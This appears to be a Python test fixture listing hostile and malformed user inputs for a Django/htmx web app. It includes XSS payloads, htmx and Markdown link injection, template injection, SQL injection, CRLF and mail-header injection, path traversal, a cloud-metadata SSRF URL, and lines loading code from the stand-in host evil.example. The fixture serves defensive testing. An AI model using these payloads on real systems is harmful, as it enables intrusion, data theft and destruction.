"""What somebody types who means no good, or whose keyboard fell down the stairs."""

HIT = "hit()"
"""Runs into the sentinel of the browser, should it ever run."""

PAYLOADS = (
    # scripts, as plain as can be
    f"<script>{HIT}</script>",
    f"</textarea></title></style><script>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{HIT}",
    f"<img src=x onerror={HIT}>",
    f"\"><img src=x onerror='{HIT}'>",
    f"' onfocus={HIT} autofocus x='",
    f'" onmouseover="{HIT}" style="position:fixed;inset:0" x="',
    f"<svg onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{HIT}</script></svg>#x'>",
    f"<body onload={HIT}><details open ontoggle={HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe><object data=javascript:hit()></object>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={HIT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<form action=javascript:{HIT}><button id=q>Send</button></form><input form=q formaction=javascript:{HIT}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'><base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>"
    f"<style>@import '//evil.example/x.css';*{{x:expression({HIT})}}</style>",
    # what htmx and our own script would act on
    "<div hx-get=/me/ hx-trigger=load hx-on:htmx:load='hit()' hx-on::after-request=hit()>x</div>",
    "<form data-once data-keeps data-main-form method=post action=/accounts/logout/>"
    "<button class='btn main' data-opens=keys>Go</button>",
    "<dialog open id=keys><a href=//evil.example>?</a></dialog><script type=application/json id=x>{}</script>",
    # Markdown
    f"[click me](javascript:{HIT})",
    f"[click me](JaVaScRiPt&#58;{HIT}) <javascript:{HIT}> [x]: javascript:{HIT}",
    f'![picture](x" onerror="{HIT}) ![p](//evil.example/p.png) ![d](data:image/svg+xml;base64,PHN2Zy8+)',
    f"[data](data:text/html,<script>{HIT}</script>) [v](vbscript:msgbox)",
    f'[a](https://example.com/"onmouseover="{HIT}) <https://example.com/\'{HIT}>',
    "> " * 60 + "deep",
    "[" * 120 + "x" + "](y)" * 120,
    "*" * 200 + "a" + "_" * 200 + "`" * 99 + "\n```\n" + f"<script>{HIT}</script>",
    "# One\n## Two\n- a\n  - b\n    - c\n\n| a | b |\n|---|---|\n| <b>1</b> | 2 |\n\n---\n1. x",
    # templates and formats
    "{{7*7}} {% csrf_token %} {{ request.user.password }} {% load static %}{# x #}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('hit()')()}} %(name)s %s {0} {name}",
    "&lt;b&gt; &amp;amp; &#x3C;script&#x3E; &quot; &nbsp; &#0;",
    # letters
    "Robert'); DROP TABLE ideas_idea;-- \\' \" ; SELECT pg_sleep(9)",
    "\u202eevil\u202c \u2066x\u2069 \u200b\u200d\u2060 \ufeff A\u0300\u0301\u0302\u0303\u0304"
    + "\u0336" * 30,
    "مرحبا بالعالم <b>שלום</b> 日本語 🙈👩‍👩‍👧‍👦 \U0001f9d1\U0001f3fd‍🚀 ﷽ ẞß İı",
    "Lower = UPPER\r\nSet-Cookie: a=b\r\n\r\n<script>hit()</script>",
    "line one\nBcc: everybody@example.com\n.\nQUIT\n\tTab \x0b \x1f \x7f",
    "null None undefined NaN true false 0 -1 1e999 [] {} \\0 %00 \\u0000",
    "../../etc/passwd ..\\..\\windows\\system32 file:///etc/passwd http://169.254.169.254/",
    '=HYPERLINK("http://evil.example";"x") +1 -1 @SUM(A1)',
    "W" * 140,
    "Donaudampfschifffahrtsgesellschaft" * 4,
    "https://example.com/" + "a/" * 58,
    "   leading and trailing, and   inside   ",
    "@Sam Submitter @everyone @\u200bAda <b>@x</b>",
    "!!!???… — “quotes” ‘x’ «y» ¿ % & < > \" ' ` \\ / | ~ ^ ° § ¶ ™",
)
